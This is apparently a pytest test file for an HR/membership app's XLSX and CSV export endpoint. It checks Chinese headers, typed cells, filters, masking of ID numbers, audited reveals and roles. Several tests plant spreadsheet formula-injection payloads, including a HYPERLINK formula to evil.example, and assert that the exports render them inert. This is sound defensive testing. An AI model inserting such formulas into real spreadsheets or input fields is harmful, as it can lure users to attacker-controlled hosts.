"""GET /api/v1/exports/{what}.xlsx · .csv (DESIGN §10.1): typed cells, headers in the reader's language, local time,
the list's filters, masked numbers unless a manager reveals them (logged), formulas made inert, roles."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.approvals.models import RefundKind, RefundRequest, RequestStatus
from app.audit import AuditEntry
from app.cards.charges import Charge, ChargeKind
from app.extensions import db
from tests.conftest import DEFAULT_NOW, valid_id_number

ZH = {"Accept-Language": "zh-CN"}
EVIL = '=HYPERLINK("http://evil.example/?x","click")'
HEADERS_ZH = {
    "cards": ["卡号", "状态", "项目", "卡种", "持卡人", "证件类型", "证件号码", "电话", "金额", "持有金额", "支付方式", "收据号",
              "办理时间", "顾问", "有效期至"],
    "members": ["会员编号", "姓名", "证件类型", "证件号码", "电话", "地址", "邮政编码", "登记时间"],
    "ledger": ["时间", "卡号", "项目", "持卡人", "类型", "金额", "支付方式", "凭证号", "经办人"],
    "refunds": ["申请时间", "卡号", "项目", "持卡人", "类型", "状态", "金额", "原因", "申请人", "处理时间", "处理人", "退款方式",
                "付款凭证号"],
    "charges": ["时间", "卡号", "项目", "持卡人", "类型", "金额", "收据号", "经办人"],
    "audit": ["日志编号", "时间", "用户", "操作", "对象", "详情", "IP 地址", "客户端", "操作代码"],
}
# (what, a money column, a time column) by header, checked for their types
TYPED = {"cards": ("金额", "办理时间"), "ledger": ("金额", "时间"), "refunds": ("金额", "申请时间"),
         "charges": ("金额", "时间"), "members": (None, "登记时间"), "audit": (None, "时间")}
BEIJING_NOW = DEFAULT_NOW.replace(tzinfo=None)  # the fixed clock is 10:00 in Shanghai


@pytest.fixture
def books(app, make_card, make_member, make_user):
    """A card with its ledger row, a refund request whose reason and a charge whose receipt start like formulas, and a
    member whose address is a formula."""
    member = make_member(name="张三", address=EVIL)
    card = make_card(member=member)
    admin = make_user("admin")
    db.session.add(RefundRequest(card_id=card.id, kind=RefundKind.REFUND, status=RequestStatus.PENDING,
                                 amount_fen=5_000_000, reason="+1+1", requested_by_id=admin.id,
                                 requested_at=DEFAULT_NOW))
    db.session.add(Charge(card_id=card.id, kind=ChargeKind.REISSUE_FEE, amount_fen=2000, receipt_no="@SUM(1)",
                          created_at=DEFAULT_NOW, actor_id=admin.id))
    db.session.commit()  # a savepoint released: every request of the test sees them
    return {"card": card, "member": member}


def sheet(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(io.BytesIO(response.data)).active


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv" and response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


@pytest.mark.parametrize("what", list(HEADERS_ZH))
def test_each_export_opens_in_openpyxl_with_chinese_headers_and_typed_cells(api_as, books, what):
    ws = sheet(api_as("admin").get(f"/exports/{what}.xlsx", headers=ZH))
    header = [c.value for c in ws[1]]
    assert header == HEADERS_ZH[what]
    body = [dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=2)]
    assert body, "at least one row"
    money, time = TYPED[what]
    first = body[0] if what != "audit" else next(r for r in body if r["操作代码"].value == "card.issued")
    if money:
        assert isinstance(first[money].value, (int, float)) and "¥" in first[money].number_format
    assert isinstance(first[time].value, dt.datetime) and first[time].is_date
    assert first[time].value == BEIJING_NOW  # Beijing time, not UTC (02:00)


def test_values_are_words_of_the_language_and_money_is_yuan(api_as, books):
    admin = api_as("admin")
    card = dict(zip(HEADERS_ZH["cards"], [c.value for c in sheet(admin.get("/exports/cards.xlsx", headers=ZH))[2]],
                    strict=True))
    assert (card["状态"], card["支付方式"], card["证件类型"], card["金额"], card["持有金额"]) == (
        "启用", "微信支付", "居民身份证", 50000, 50000)
    assert card["卡号"] == books["card"].number and card["有效期至"] is None
    english = rows_of(admin.get("/exports/cards.csv"))
    assert english[0][:3] == ["Card number", "Status", "Programme"]
    assert english[1][1] == "active" and english[1][8:10] == ["50000.00", "50000.00"]
    ledger = rows_of(admin.get("/exports/ledger.csv", headers=ZH))
    # The programme's (presale_95) agreement calls its money 诚意金: the kinds say so in Chinese, generically in English.
    assert ledger[1][0] == "2026-05-20 10:00:00" and ledger[1][4] == "收诚意金" and ledger[1][5] == "50000.00"
    assert rows_of(admin.get("/exports/ledger.csv"))[1][4] == "deposit received"
    refunds = rows_of(admin.get("/exports/refunds.csv"))
    assert refunds[1][4:7] == ["refund of the deposit", "waiting for approval", "50000.00"]
    assert rows_of(admin.get("/exports/refunds.csv", headers=ZH))[1][4] == "退还诚意金"
    charges = rows_of(admin.get("/exports/charges.csv", headers=ZH))
    assert charges[1][4:6] == ["补办费", "20.00"]
    audit = rows_of(admin.get("/exports/audit.csv", query_string={"action": "card.issued"}, headers=ZH))
    assert audit[1][3] == "发卡" and "金额: ¥50,000.00" in audit[1][5] and audit[1][8] == "card.issued"
    assert audit[1][4] == f"卡 {books['card'].id}"  # the object in words, as on the log page


def test_money_going_out_is_a_negative_number(api_as, books, app):
    from app.cards.models import LedgerEntry, LedgerKind
    db.session.add(LedgerEntry(card_id=books["card"].id, kind=LedgerKind.REFUND_PAID, amount_fen=-5_000_000,
                               payment_method=None, reference="OUT-1", created_at=DEFAULT_NOW))
    db.session.commit()
    ws = sheet(api_as("admin").get("/exports/ledger.xlsx", query_string={"kind": "refund_paid"}))
    assert [c.value for c in ws[2]][5] == -50000 and ws.max_row == 2


def test_formulas_are_made_inert(app, api_as, books):
    from app.users.services import authenticate  # a failed login writes the attacker's user agent into the log
    with app.test_request_context("/", headers={"User-Agent": EVIL}):
        authenticate("nobody", "x")
    admin = api_as("admin")
    members = rows_of(admin.get("/exports/members.csv", query_string={"q": "张三"}))
    assert members[1][5] == "'" + EVIL
    assert rows_of(admin.get("/exports/refunds.csv"))[1][7] == "'+1+1"
    assert rows_of(admin.get("/exports/charges.csv"))[1][6] == "'@SUM(1)"
    audit = rows_of(admin.get("/exports/audit.csv", query_string={"action": "user.login_failed"}))
    assert audit[1][7] == "'" + EVIL
    ws = sheet(admin.get("/exports/members.xlsx", query_string={"q": "张三"}))
    address = ws.cell(row=2, column=6)
    assert address.value == EVIL and address.data_type == "s"  # text, never a formula
    ws = sheet(admin.get("/exports/audit.xlsx", query_string={"action": "user.login_failed"}))
    assert ws.cell(row=2, column=8).data_type == "s" and ws.cell(row=2, column=8).value == EVIL
    assert sheet(admin.get("/exports/refunds.xlsx")).cell(row=2, column=8).value == "+1+1"


def test_exports_take_their_lists_filters(api_as, books, make_card, make_program):
    other = make_card(program=make_program(code="OTHER"), signed=False)
    admin = api_as("admin")
    numbers = lambda response: [r[0] for r in rows_of(response)[1:]]  # noqa: E731
    assert set(numbers(admin.get("/exports/cards.csv"))) >= {books["card"].number, other.number}
    assert numbers(admin.get("/exports/cards.csv", query_string={"status": "awaiting_signature"})) == [other.number]
    assert numbers(admin.get("/exports/cards.csv", query_string={"program": "other"})) == [other.number]
    assert numbers(admin.get("/exports/cards.csv", query_string={"q": books["card"].number})) == [books["card"].number]
    ledger = rows_of(admin.get("/exports/ledger.csv", query_string={"program": "OTHER"}))
    assert [r[1] for r in ledger[1:]] == [other.number]
    assert len(rows_of(admin.get("/exports/ledger.csv", query_string={"from": "2026-05-21"}))) == 1  # header only
    assert len(rows_of(admin.get("/exports/refunds.csv", query_string={"status": "done"}))) == 1
    assert len(rows_of(admin.get("/exports/charges.csv", query_string={"card": books["card"].number}))) == 2
    audit = rows_of(admin.get("/exports/audit.csv", query_string={"card": other.number, "action": "card."}))
    assert [r[8] for r in audit[1:]] == ["card.issued"]
    assert [r[1] for r in rows_of(admin.get("/exports/members.csv", query_string={"q": "张三"}))[1:]] == ["张三"]


def test_numbers_are_masked_unless_a_manager_reveals_them_with_a_reason(app, api_as, books, monkeypatch):
    member = books["member"]
    full = valid_id_number(1)
    admin, auditor = api_as("admin"), api_as("auditor")
    masked = rows_of(auditor.get("/exports/members.csv", query_string={"q": "张三"}))[1]
    assert masked[3] == member.id_number_masked and full not in masked and masked[4] == "138****0001"
    assert rows_of(admin.get("/exports/cards.csv"))[1][6] == member.id_number_masked
    assert auditor.get("/exports/members.csv", query_string={"reveal": "1", "reason": "审计"}).status_code == 403
    no_reason = admin.get("/exports/members.csv", query_string={"reveal": "1"})
    assert no_reason.status_code == 422 and no_reason.get_json()["error"]["reasons"] == {"reason": "required"}
    monkeypatch.setitem(app.config, "VIP_REVEAL_BURST", 2)
    revealed = rows_of(admin.get("/exports/members.csv", query_string={"q": "张三", "reveal": "1", "reason": "法院调取"}))
    assert revealed[1][3] == full and revealed[1][4] == "13800130001"
    cards = rows_of(admin.get("/exports/cards.csv", query_string={"reveal": "true", "reason": "法院调取"}))
    assert cards[1][6] == full
    entries = db.session.scalars(select(AuditEntry).where(AuditEntry.action.in_(
        ["export.revealed", "member.reveal_burst"])).order_by(AuditEntry.id)).all()
    assert [e.action for e in entries] == ["export.revealed", "export.revealed", "member.reveal_burst"]
    assert entries[0].payload == {"what": "members", "format": "csv", "rows": 1, "filters": {"q": "张三"},
                                  "reason": "法院调取"}
    assert entries[2].payload["count"] == 2  # one row each: the second export reached the burst of 2


def test_every_export_is_logged_with_its_filters(api_as, books):
    admin = api_as("admin")
    admin.get("/exports/cards.xlsx", query_string={"status": "active", "q": "13800130001"})
    entry = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export.downloaded")).one()
    assert (entry.object_type, entry.object_id) == ("user", str(entry.actor_id))  # who took it; the details say what
    assert json.loads(entry.data) == {"what": "cards", "format": "xlsx", "rows": 1,
                                      "filters": {"status": "active", "q": "138****0001"}}  # a number searched: masked


def test_unknown_export_bad_filters_and_roles(api_as, books):
    admin = api_as("admin")
    missing = admin.get("/exports/salaries.xlsx")
    assert missing.status_code == 404 and missing.get_json()["error"]["code"] == "export_not_found"
    for what, args in [("cards", {"status": "gone"}), ("cards", {"page": "2"}), ("ledger", {"kind": "x"}),
                       ("audit", {"from": "2026-13-01"}), ("ledger", {"reveal": "1", "reason": "x"}),
                       ("members", {"status": "active"}), ("refunds", {"nonsense": "1"})]:
        response = admin.get(f"/exports/{what}.csv", query_string=args)
        assert response.status_code == 422, (what, args)
    for role in ("consultant", "counter"):
        assert api_as(role).get("/exports/cards.xlsx").status_code == 403
    assert api_as("auditor").get("/exports/audit.csv").status_code == 200


def test_the_old_audit_csv_address_is_the_new_export(api_as, books):
    rows = rows_of(api_as("admin").get("/audit.csv", query_string={"action": "card.issued"}))
    assert rows[0][0] == "Entry no." and rows[1][8] == "card.issued"


def test_xlsx_of_many_rows_is_streamed_from_a_file(app, api_as, books):
    """Write-only: rows go to disk as they are read; a few thousand entries export whole and in order."""
    from app.audit import record
    with app.test_request_context("/"):
        for n in range(2500):
            record("member.updated", books["member"], {"name": f"n{n}"}, actor=None)
        db.session.commit()  # a savepoint released: the request after sees them
    ws = sheet(api_as("admin").get("/exports/audit.xlsx", query_string={"action": "member.updated"}))
    ids = [row[0].value for row in ws.iter_rows(min_row=2)]
    assert len(ids) == 2500 and ids == sorted(ids, reverse=True)
